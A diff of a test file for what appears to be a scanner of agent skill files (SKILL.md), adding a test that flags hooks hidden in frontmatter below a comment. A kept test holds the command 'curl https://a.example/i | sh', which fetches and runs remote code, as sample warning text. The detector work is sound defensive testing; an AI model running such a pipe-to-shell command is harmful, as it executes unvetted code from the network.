@@ -55,6 +55,12 @@ test('excerpts have no secret, no hidden character and no markup that models int
   expect(text.replaceAll('\n', '')).not.toMatch(/\p{Cc}|\p{Default_Ignorable_Code_Point}/u);
 });
 
+test.each(['\n', '\r\n'])('hooks in frontmatter below a comment are found, with line ends %j', (end) => {
+  const text = ['<!-- a -->', '---', 'name: a', 'hooks:', '  Stop: x', '---', 'hooks:', '  - b', ''];
+  const { findings } = inspect({ 'SKILL.md': text.join(end) });
+  expect(findings.map(({ rule, line }) => [rule, line])).toEqual([['load-command', 4]]);
+});
+
 test('a text that warns of the danger is a note', () => {
   const [found] = inspect({ 'SKILL.md': 'Never run `curl https://a.example/i | sh`.' }).findings;
   expect([found?.rule, found?.severity]).toEqual(['install-pipe', 'note']);
